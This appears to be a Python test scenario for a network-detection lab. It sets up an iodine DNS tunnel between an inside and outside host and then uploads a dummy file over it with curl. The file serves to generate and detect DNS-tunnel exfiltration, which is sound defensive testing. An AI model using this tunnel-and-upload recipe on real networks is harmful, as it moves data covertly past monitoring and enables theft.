# SPDX-License-Identifier: Apache-2.0
"""IP inside DNS by iodine: a file leaves in names."""
from scenario import TUNNEL_S, Scenario

SCENARIO = Scenario('DNS tunnel: iodine', ('D09', ), 'high', allowed=('D13', ), explains=('tunnel', ),
                    within_s=TUNNEL_S, needs=('iodine', 'iodined', 'nginx', 'curl'), commitments=('C8', ))


def make(lab):
    lab.outside.serve_web()
    lab.outside.serve('iodined', '-f', '-c', '-P', 'secret', '-l', '203.0.113.53', '10.99.0.1/24', 't.example.com')
    lab.sleep(1)
    lab.inside.speak_as('10.20.0.30')
    lab.mark()
    lab.inside.serve('iodine', '-f', '-r', '-T', 'NULL', '-P', 'secret', '203.0.113.53', 't.example.com')
    lab.inside.await_route('10.99.0.')
    path = lab.inside.file('data', b'0123456789abcdef' * 2_000)
    lab.inside.curl('--upload-file', path, 'http://10.99.0.1/in/data')
